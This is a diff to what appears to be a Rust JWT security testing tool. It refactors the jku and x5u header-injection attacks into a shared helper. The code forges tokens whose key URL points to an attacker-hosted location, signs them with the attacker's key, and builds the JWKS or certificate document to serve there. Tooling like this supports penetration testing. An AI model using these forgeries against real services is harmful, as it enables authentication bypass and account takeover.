@@ -272,26 +272,11 @@ pub fn jku_injection(
     url: &str,
     key: &PrivateKey,
 ) -> Result<HostedKeyAttack, AttackError> {
-    let kid = original_kid(jwt).unwrap_or("authprobe").to_owned();
-    let alg = key.default_alg();
-    let d = draft(
-        jwt,
-        &[
-            Edit::set("alg", alg.name()),
-            Edit::set("jku", url),
-            Edit::set("kid", kid.as_str()),
-        ],
-        edits,
-    )?;
-    let token = d.sign(alg, &SigningKey::Private(key.clone()))?;
-    Ok(HostedKeyAttack {
-        forged: vec![forged(
-            format!("jku={url}, signed by attacker {} key, {alg}", key.kind()),
-            token,
-        )],
-        document: jwks_document(&key.public_key(), &kid, alg),
-        content_type: "application/json",
-        kid,
+    hosted_key(jwt, edits, "jku", url, key, |kid, alg| {
+        Ok((
+            jwks_document(&key.public_key(), kid, alg),
+            "application/json",
+        ))
     })
 }
 
@@ -303,14 +288,29 @@ pub fn x5u_injection(
     url: &str,
     key: &PrivateKey,
 ) -> Result<HostedKeyAttack, AttackError> {
-    let document = self_signed_certificate_pem(key)?;
+    hosted_key(jwt, edits, "x5u", url, key, |_, _| {
+        Ok((self_signed_certificate_pem(key)?, "application/x-pem-file"))
+    })
+}
+
+/// A token whose header member `member` points at `url`, signed by `key`, with the
+/// document `document(kid, alg)` says the attacker must serve there.
+fn hosted_key(
+    jwt: &Jwt,
+    edits: &[Edit],
+    member: &str,
+    url: &str,
+    key: &PrivateKey,
+    document: impl FnOnce(&str, Alg) -> Result<(String, &'static str), AttackError>,
+) -> Result<HostedKeyAttack, AttackError> {
     let kid = original_kid(jwt).unwrap_or("authprobe").to_owned();
     let alg = key.default_alg();
+    let (document, content_type) = document(&kid, alg)?;
     let d = draft(
         jwt,
         &[
             Edit::set("alg", alg.name()),
-            Edit::set("x5u", url),
+            Edit::set(member, url),
             Edit::set("kid", kid.as_str()),
         ],
         edits,
@@ -318,11 +318,14 @@ pub fn x5u_injection(
     let token = d.sign(alg, &SigningKey::Private(key.clone()))?;
     Ok(HostedKeyAttack {
         forged: vec![forged(
-            format!("x5u={url}, signed by attacker {} key, {alg}", key.kind()),
+            format!(
+                "{member}={url}, signed by attacker {} key, {alg}",
+                key.kind()
+            ),
             token,
         )],
         document,
-        content_type: "application/x-pem-file",
+        content_type,
         kid,
     })
 }
